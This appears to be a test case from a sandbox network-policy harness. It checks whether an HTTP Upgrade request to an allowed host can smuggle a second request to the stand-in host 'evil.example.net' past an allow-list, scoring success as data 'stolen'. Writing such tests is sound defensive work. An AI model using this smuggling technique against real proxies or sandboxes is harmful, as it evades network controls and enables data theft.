# /// attack
# guarantee = "network"
# summary = "Upgrades a connection of HTTP to another protocol, in which nobody checks what it asks for."
# reference = "RFC 9110, 7.8"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "errno no upgrade" }
# ///

from kit import exchange, has_proxy, head, judge, refused, target, url

first = head(f"GET {url('example.org', '/')}", "Host: example.org", "Connection: Upgrade", "Upgrade: raw")
second = head(f"GET /{target('MARKER')}", "Host: evil.example.net", "Connection: close")
answer = exchange("example.org", first, second)
if has_proxy() and b" 101 " not in answer:
    refused("no upgrade")
judge(answer.partition(b"\r\n\r\n")[2])
